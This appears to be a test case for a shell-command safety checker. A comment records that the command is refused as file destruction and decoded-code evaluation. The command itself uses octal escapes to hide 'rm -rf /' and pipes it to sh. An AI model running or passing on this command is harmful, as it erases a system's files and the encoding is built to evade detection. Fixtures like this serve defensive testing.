# nacre: refused file.destroy code.eval-decoded
printf '\162\155\040-rf /' | sh
